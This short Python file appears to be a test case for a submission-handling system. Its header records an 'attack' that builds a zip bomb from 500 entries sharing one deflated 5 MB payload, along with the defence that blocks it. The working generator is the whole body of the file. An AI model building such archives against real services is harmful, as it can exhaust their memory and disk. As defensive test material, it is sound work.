# /// attack
# tries = "a bomb of quadratic size, by entries that share their bytes"
# layer = "hand-ins"
# stopped_by = "entries that overlap are refused"
# status = "unreadable"
# ///
from __future__ import annotations

import io
import zipfile
from pathlib import Path


def make(folder: Path, honest: str) -> None:
    """Write it."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("walls.py", honest + "#" * 5_000_000)
        first = archive.infolist()[0]
        for number in range(500):
            other = zipfile.ZipInfo(f"{number}.py")
            for name in ("compress_type", "CRC", "compress_size", "file_size", "header_offset", "flag_bits"):
                setattr(other, name, getattr(first, name))
            archive.filelist.append(other)
            archive.NameToInfo[other.filename] = other
        archive._didModify = True
    (folder / "walls.zip").write_bytes(data.getvalue())
